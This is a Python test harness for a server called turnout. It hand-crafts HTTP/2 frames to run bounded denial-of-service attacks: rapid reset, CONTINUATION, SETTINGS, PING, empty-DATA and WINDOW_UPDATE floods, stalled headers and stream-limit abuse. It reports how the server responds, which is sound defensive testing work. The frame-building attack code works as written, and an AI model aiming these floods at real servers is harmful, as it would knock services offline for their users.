#!/usr/bin/python3
"""Scripted abusive HTTP/2 clients for turnout's flood and abuse tests (issue #13 item 4).

One attack per run against one connection, then one JSON line on stdout:

  {"attack": ..., "goaway": bool, "error_code": int|null, "closed": bool, "rst_codes": [...],
   "status": int|null, "frames_sent": n, "seconds": s, ...}

goaway/error_code: the first GOAWAY the server sent and its code (0xb ENHANCE_YOUR_CALM,
0x1 PROTOCOL_ERROR, ...); closed: the server closed the TCP connection before the wait ran out;
rst_codes: RST_STREAM codes received, in order (at most 64 kept); status: the first final
response status seen on any stream.

Every attack is bounded by a frame count (--frames) and a time (--seconds), and the wait for
the server to close afterwards by --wait, so a server that tolerates an attack ends the run with
goaway false / closed false rather than hanging the caller.

Frames are built by hand (struct) wherever python3-h2's state machine would refuse to send them
(floods, CONTINUATION runs, streams past the peer's limit); header blocks are HPACK-encoded by the
hpack package h2 depends on. `ok` is one ordinary GET through h2's own client state machine.

Only the standard library and python3-h2 (with its hpack dependency) are used.
"""
import argparse
import json
import select
import socket
import ssl
import struct
import sys
import time

try:
    import h2.config
    import h2.connection
    import h2.events
    import hpack
except ImportError as e:  # the C++ test skips on exit code 77
    print(json.dumps({"error": f"python3-h2 missing: {e}"}))
    sys.exit(77)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS, PADDED, PRIORITY_FLAG = 0x1, 0x1, 0x4, 0x8, 0x20
SETTINGS_HEADER_TABLE_SIZE, SETTINGS_ENABLE_PUSH, SETTINGS_MAX_CONCURRENT_STREAMS = 1, 2, 3
SETTINGS_INITIAL_WINDOW_SIZE, SETTINGS_MAX_FRAME_SIZE, SETTINGS_MAX_HEADER_LIST_SIZE = 4, 5, 6
CANCEL = 0x8

ATTACKS = ["rapid_reset", "continuation_flood", "big_header_block", "settings_flood", "ping_flood",
           "empty_data_flood", "window_update_flood", "stalled_headers", "too_many_streams", "ok"]

# Per attack: default frame bound, whether to read the server while flooding (floods whose
# defence is the server's outbound-queue limit must NOT read, so the server's writes back up),
# and the default wait for the server to close afterwards.
DEFAULTS = {
    "rapid_reset": dict(frames=20000, read_during=True, wait=5.0),
    "continuation_flood": dict(frames=100000, read_during=True, wait=5.0),
    "big_header_block": dict(frames=0, read_during=True, wait=5.0),
    "settings_flood": dict(frames=200000, read_during=False, wait=5.0),
    "ping_flood": dict(frames=200000, read_during=False, wait=5.0),
    "empty_data_flood": dict(frames=100000, read_during=True, wait=5.0),
    "window_update_flood": dict(frames=100000, read_during=True, wait=5.0),
    "stalled_headers": dict(frames=0, read_during=True, wait=30.0),
    "too_many_streams": dict(frames=0, read_during=True, wait=5.0),
    "ok": dict(frames=0, read_during=True, wait=5.0),
}


def frame(ftype, flags, stream_id, payload=b""):
    n = len(payload)
    return struct.pack(">BHBBI", (n >> 16) & 0xFF, n & 0xFFFF, ftype, flags, stream_id & 0x7FFFFFFF) + payload


def settings_payload(pairs):
    return b"".join(struct.pack(">HI", k, v) for k, v in pairs)


def hpack_int(value, prefix_bits, first_byte_flags=0):
    """RFC 7541 5.1 integer with an N-bit prefix."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte_flags | value])
    out = bytearray([first_byte_flags | limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def literal_never_indexed(name, value):
    """A header field as a literal never indexed with a new name (RFC 7541 6.2.3), no Huffman:
    decoding it costs the server its size but adds nothing to the HPACK dynamic table, so a long
    run of them measures the server's header-block accounting, not table eviction."""
    n, v = name.encode(), value.encode()
    return b"\x10" + hpack_int(len(n), 7) + n + hpack_int(len(v), 7) + v


class Result:
    def __init__(self, attack):
        self.attack = attack
        self.goaway = False
        self.error_code = None
        self.last_stream_id = None
        self.goaway_debug = ""
        self.closed = False
        self.rst_codes = []
        self.rst_count = 0
        self.status = None
        self.responses = 0
        self.frames_sent = 0
        self.frames_received = 0
        self.send_stalled = False  # a send blocked past the send timeout: the server stopped reading
        self.server_max_streams = None
        self.alpn = None
        self.error = None
        self.started = time.monotonic()

    def as_json(self):
        return json.dumps({
            "attack": self.attack, "goaway": self.goaway, "error_code": self.error_code,
            "closed": self.closed, "rst_codes": self.rst_codes, "rst_count": self.rst_count,
            "status": self.status, "responses": self.responses, "frames_sent": self.frames_sent,
            "frames_received": self.frames_received, "seconds": round(time.monotonic() - self.started, 3),
            "last_stream_id": self.last_stream_id, "goaway_debug": self.goaway_debug,
            "send_stalled": self.send_stalled, "server_max_streams": self.server_max_streams,
            "alpn": self.alpn, "error": self.error})


class Closed(Exception):
    """The server closed (or reset) the connection."""


class SendStalled(Exception):
    """The server stopped reading: a send did not complete within the send timeout."""


class RawClient:
    """A client connection speaking raw frames: what it sends is exactly what the attack builds;
    what it receives is parsed just enough to record GOAWAY, RST_STREAM, response statuses and
    to acknowledge the server's SETTINGS."""

    def __init__(self, args, result):
        self.args = args
        self.r = result
        self.buf = b""
        self.enc = hpack.Encoder()
        self.dec = hpack.Decoder()
        self.dec.max_header_list_size = 1 << 24
        self.block = None  # (stream_id, bytes) of a response header block being reassembled
        self.got_settings = False
        self.eof = False
        self.send_failed = False
        raw = socket.create_connection((args.host, args.port), timeout=5)
        raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if args.small_rcvbuf:
            # Before the handshake finishes the window is already negotiated; setting it here still
            # shrinks what the kernel buffers for us, so the server's replies back up sooner.
            raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        if args.tls:
            ctx = ssl.create_default_context(cafile=args.cafile) if args.cafile else ssl._create_unverified_context()
            ctx.set_alpn_protocols(["h2"])
            self.sock = ctx.wrap_socket(raw, server_hostname=args.sni or args.host)
            self.r.alpn = self.sock.selected_alpn_protocol()
            if self.r.alpn != "h2":
                raise RuntimeError(f"ALPN selected {self.r.alpn!r}, not h2")
        else:
            self.sock = raw
        self.scheme = "https" if args.tls else "http"
        self.authority = args.authority or f"{args.host}:{args.port}"

    # -- sending

    def send(self, data, nframes=1):
        if self.eof or self.send_failed:
            raise Closed()
        self.sock.settimeout(self.args.send_timeout)
        try:
            self.sock.sendall(data)
        except (socket.timeout, ssl.SSLWantWriteError, ssl.SSLWantReadError):
            self.r.send_stalled = True
            raise SendStalled()
        except (OSError, ssl.SSLError):
            # Broken pipe or reset: the server closed. What it sent before (its GOAWAY) may still
            # wait in our receive buffer, so the read side is left to find the end.
            self.send_failed = True
            self.r.closed = True
            raise Closed()
        self.r.frames_sent += nframes

    def request_block(self, method="GET", path="/", extra=()):
        headers = [(":method", method), (":scheme", self.scheme), (":path", path), (":authority", self.authority)]
        headers += list(extra)
        return self.enc.encode(headers)

    def preface(self):
        self.send(PREFACE + frame(SETTINGS, 0, 0, settings_payload([(SETTINGS_ENABLE_PUSH, 0)])))
        # Wait for the server's SETTINGS and acknowledge them, so the limits it announced are in force.
        deadline = time.monotonic() + 5
        while not self.got_settings and time.monotonic() < deadline and not self.eof:
            self.poll(0.2)

    # -- receiving

    def poll(self, timeout):
        """Reads what the server sent within `timeout` (0: only what is already there)."""
        if self.eof:
            return
        end = time.monotonic() + timeout
        while True:
            pending = self.args.tls and self.sock.pending() > 0
            if not pending:
                left = max(0.0, end - time.monotonic())
                readable, _, _ = select.select([self.sock], [], [], left)
                if not readable:
                    return
            self.sock.settimeout(1.0)
            try:
                chunk = self.sock.recv(65536)
            except (socket.timeout, ssl.SSLWantReadError):
                chunk = None
            except (ConnectionResetError, BrokenPipeError, ssl.SSLError, OSError):
                chunk = b""
            if chunk == b"":
                self.eof = True
                self.r.closed = True
                return
            if chunk:
                self.buf += chunk
                self.parse()
            if time.monotonic() >= end and not (self.args.tls and self.sock.pending() > 0):
                return

    def parse(self):
        while len(self.buf) >= 9:
            hi, lo, ftype, flags, sid = struct.unpack(">BHBBI", self.buf[:9])
            n = (hi << 16) | lo
            if len(self.buf) < 9 + n:
                return
            payload, self.buf = self.buf[9:9 + n], self.buf[9 + n:]
            sid &= 0x7FFFFFFF
            self.r.frames_received += 1
            self.on_frame(ftype, flags, sid, payload)

    def on_frame(self, ftype, flags, sid, payload):
        if ftype == SETTINGS and not flags & ACK:
            for i in range(0, len(payload) - 5, 6):
                k, v = struct.unpack(">HI", payload[i:i + 6])
                if k == SETTINGS_MAX_CONCURRENT_STREAMS:
                    self.r.server_max_streams = v
            self.got_settings = True
            try:
                self.send(frame(SETTINGS, ACK, 0), 0)
            except (Closed, SendStalled):
                pass
        elif ftype == GOAWAY and len(payload) >= 8:
            last, code = struct.unpack(">II", payload[:8])
            if not self.r.goaway:
                self.r.goaway = True
                self.r.error_code = code
                self.r.last_stream_id = last & 0x7FFFFFFF
                self.r.goaway_debug = payload[8:200].decode("utf-8", "replace")
        elif ftype == RST_STREAM and len(payload) >= 4:
            self.r.rst_count += 1
            if len(self.r.rst_codes) < 64:
                self.r.rst_codes.append(struct.unpack(">I", payload[:4])[0])
        elif ftype == HEADERS:
            body = payload
            if flags & PADDED and body:
                pad = body[0]
                body = body[1:len(body) - pad]
            if flags & PRIORITY_FLAG:
                body = body[5:]
            self.block = (sid, body)
            if flags & END_HEADERS:
                self.header_block_done()
        elif ftype == CONTINUATION and self.block:
            self.block = (self.block[0], self.block[1] + payload)
            if flags & END_HEADERS:
                self.header_block_done()
        elif ftype == DATA and payload:
            # Keep the server's windows open so responses never stall behind our attack.
            inc = struct.pack(">I", len(payload))
            try:
                self.send(frame(WINDOW_UPDATE, 0, 0, inc) + frame(WINDOW_UPDATE, 0, sid, inc), 0)
            except (Closed, SendStalled):
                pass

    def header_block_done(self):
        sid, block = self.block
        self.block = None
        try:
            fields = self.dec.decode(block, raw=False)
        except Exception as e:  # a broken block from the server is itself worth reporting
            self.r.error = f"HPACK decode of the server's block failed: {e}"
            return
        for k, v in fields:
            if k == ":status":
                s = int(v)
                if s >= 200:
                    self.r.responses += 1
                    if self.r.status is None:
                        self.r.status = s

    def wait_close(self, seconds):
        """Reads until the server closes or `seconds` pass."""
        end = time.monotonic() + seconds
        while not self.eof and time.monotonic() < end:
            self.poll(min(0.2, max(0.0, end - time.monotonic())))


# ------------------------------------------------------------------------------------------------
# Attacks. Each sends until its frame bound, its time bound, the connection closing, or the
# server's GOAWAY; run() then waits for the close.

def batched(c, deadline, total, make, batch=100, read_during=True):
    """Sends `total` frames built by make(i) (bytes for one frame), `batch` per write."""
    i = 0
    while i < total and time.monotonic() < deadline:
        n = min(batch, total - i)
        c.send(b"".join(make(i + j) for j in range(n)), n)
        i += n
        if read_during:
            c.poll(0)
            if c.r.goaway or c.eof:
                return


def attack_rapid_reset(c, a, deadline):
    # HEADERS (a complete GET) then RST_STREAM(CANCEL), stream after stream: each costs the server
    # a routed exchange, the client nothing (CVE-2023-44487). frames counts streams here.
    sid = 1
    streams = a.frames // 2
    i = 0
    while i < streams and time.monotonic() < deadline and sid < 0x7FFFFFFF - 400:
        out = []
        for _ in range(min(100, streams - i)):
            out.append(frame(HEADERS, END_HEADERS | END_STREAM, sid, c.request_block()))
            out.append(frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL)))
            sid += 2
            i += 1
        c.send(b"".join(out), len(out))
        c.poll(0)
        if c.r.goaway or c.eof:
            return


def attack_continuation_flood(c, a, deadline):
    # HEADERS without END_HEADERS, then CONTINUATION frames that never end the block, each with
    # one small header (the 2024 CONTINUATION flood): the server must bound the block it buffers.
    c.send(frame(HEADERS, 0, 1, c.request_block()))
    batched(c, deadline, a.frames - 1,
            lambda i: frame(CONTINUATION, 0, 1, literal_never_indexed(f"x-f{i % 1000}", "a" * 16)))


def attack_big_header_block(c, a, deadline):
    # One complete request whose header block (> --size bytes) is spread over CONTINUATION frames
    # of at most 4 KiB: counted as a whole against max_header_bytes, not per frame.
    block = c.request_block()
    i = 0
    while len(block) < a.size:
        block += literal_never_indexed(f"x-big-{i}", "b" * 1000)
        i += 1
    pieces = [block[k:k + 4096] for k in range(0, len(block), 4096)]
    out = []
    for k, p in enumerate(pieces):
        last = k == len(pieces) - 1
        if k == 0:
            out.append(frame(HEADERS, END_STREAM | (END_HEADERS if last else 0), 1, p))
        else:
            out.append(frame(CONTINUATION, END_HEADERS if last else 0, 1, p))
    c.send(b"".join(out), len(out))


def attack_settings_flood(c, a, deadline):
    # SETTINGS frames without reading their ACKs (CVE-2019-9515): the server's queue of ACKs must
    # not grow without bound.
    f = frame(SETTINGS, 0, 0, settings_payload([(SETTINGS_INITIAL_WINDOW_SIZE, 65535)]))
    batched(c, deadline, a.frames, lambda i: f, batch=500, read_during=a.read_during)


def attack_ping_flood(c, a, deadline):
    # PINGs without reading the PING ACKs (CVE-2019-9512).
    batched(c, deadline, a.frames, lambda i: frame(PING, 0, 0, struct.pack(">Q", i)), batch=500,
            read_during=a.read_during)


def attack_empty_data_flood(c, a, deadline):
    # An open request stream, then zero-length DATA frames without END_STREAM (CVE-2019-9518):
    # each costs the server a frame's work and the client 9 bytes.
    c.send(frame(HEADERS, END_HEADERS, 1, c.request_block("POST", "/upload")))
    batched(c, deadline, a.frames - 1, lambda i: frame(DATA, 0, 1), batch=500, read_during=a.read_during)


def attack_window_update_flood(c, a, deadline):
    # WINDOW_UPDATE frames of increment 1 on the connection: each legal, together pure overhead.
    f = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))
    batched(c, deadline, a.frames, lambda i: f, batch=500, read_during=a.read_during)


def attack_stalled_headers(c, a, deadline):
    # HEADERS without END_HEADERS, then silence: the server's header timeout must end it.
    c.send(frame(HEADERS, 0, 1, c.request_block()))


def attack_too_many_streams(c, a, deadline):
    # Requests with bodies held open (no END_STREAM), more of them than the server's
    # SETTINGS_MAX_CONCURRENT_STREAMS (acknowledged in the preface), all at once.
    limit = c.r.server_max_streams if c.r.server_max_streams is not None else 100
    n = a.streams or limit + 10
    out = [frame(HEADERS, END_HEADERS, 1 + 2 * k, c.request_block("POST", f"/hold/{k}")) for k in range(n)]
    c.send(b"".join(out), len(out))


def run_ok(a, r):
    """One ordinary GET through python3-h2's client state machine; status and body size."""
    raw = socket.create_connection((a.host, a.port), timeout=5)
    sock = raw
    if a.tls:
        ctx = ssl.create_default_context(cafile=a.cafile) if a.cafile else ssl._create_unverified_context()
        ctx.set_alpn_protocols(["h2"])
        sock = ctx.wrap_socket(raw, server_hostname=a.sni or a.host)
        r.alpn = sock.selected_alpn_protocol()
        if r.alpn != "h2":
            raise RuntimeError(f"ALPN selected {r.alpn!r}, not h2")
    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    sid = conn.get_next_available_stream_id()
    conn.send_headers(sid, [(":method", "GET"), (":scheme", "https" if a.tls else "http"),
                            (":path", a.path), (":authority", a.authority or f"{a.host}:{a.port}")], end_stream=True)
    sock.sendall(conn.data_to_send())
    r.frames_sent = 3
    body = 0
    done = False
    deadline = time.monotonic() + a.seconds
    sock.settimeout(1.0)
    while not done and time.monotonic() < deadline:
        try:
            data = sock.recv(65536)
        except (socket.timeout, ssl.SSLWantReadError):
            continue
        if not data:
            r.closed = True
            break
        for ev in conn.receive_data(data):
            r.frames_received += 1
            if isinstance(ev, h2.events.ResponseReceived):
                r.status = int(dict(ev.headers)[":status"])
                r.responses += 1
            elif isinstance(ev, h2.events.DataReceived):
                body += len(ev.data)
                conn.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
            elif isinstance(ev, h2.events.StreamEnded):
                done = True
            elif isinstance(ev, h2.events.StreamReset):
                r.rst_count += 1
                r.rst_codes.append(int(ev.error_code))
                done = True
            elif isinstance(ev, h2.events.ConnectionTerminated):
                r.goaway = True
                r.error_code = int(ev.error_code)
                r.last_stream_id = ev.last_stream_id
        out = conn.data_to_send()
        if out:
            sock.sendall(out)
    try:
        conn.close_connection()
        sock.sendall(conn.data_to_send())
        sock.close()
    except OSError:
        pass
    r.body_bytes = body


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--tls", action="store_true", help="TLS with ALPN h2 (else h2c with prior knowledge)")
    p.add_argument("--cafile", help="verify the server certificate against this CA (else no verification)")
    p.add_argument("--sni", help="TLS server name (default: --host)")
    p.add_argument("--authority", help=":authority of requests (default host:port)")
    p.add_argument("--attack", required=True, choices=ATTACKS)
    p.add_argument("--path", default="/", help="path of the `ok` request")
    p.add_argument("--frames", type=int, help="frame bound of the attack (per-attack default)")
    p.add_argument("--seconds", type=float, default=10.0, help="time bound of the attack")
    p.add_argument("--wait", type=float, help="time to wait for the server to close afterwards")
    p.add_argument("--size", type=int, default=40 * 1024, help="big_header_block: header block bytes")
    p.add_argument("--streams", type=int, default=0, help="too_many_streams: streams to open (default limit+10)")
    p.add_argument("--send-timeout", type=float, default=3.0, help="a send blocked this long ends the attack")
    p.add_argument("--read-during", choices=["yes", "no"], help="read the server while flooding")
    a = p.parse_args()
    d = DEFAULTS[a.attack]
    a.frames = a.frames if a.frames is not None else d["frames"]
    a.wait = a.wait if a.wait is not None else d["wait"]
    a.read_during = d["read_during"] if a.read_during is None else a.read_during == "yes"
    # Floods answered by the server (ACKs) are only a threat when the client does not read them.
    a.small_rcvbuf = not a.read_during

    r = Result(a.attack)
    try:
        if a.attack == "ok":
            run_ok(a, r)
        else:
            c = RawClient(a, r)
            try:
                c.preface()
                globals()["attack_" + a.attack](c, a, time.monotonic() + a.seconds)
            except SendStalled:
                pass  # the server stopped reading: see what it says
            except Closed:
                pass
            c.wait_close(a.wait)
            try:
                c.sock.close()
            except OSError:
                pass
    except (OSError, RuntimeError) as e:
        r.error = f"{type(e).__name__}: {e}"
        print(r.as_json())
        sys.exit(1)
    out = json.loads(r.as_json())
    if a.attack == "ok":
        out["body_bytes"] = getattr(r, "body_bytes", 0)
    print(json.dumps(out))


if __name__ == "__main__":
    main()
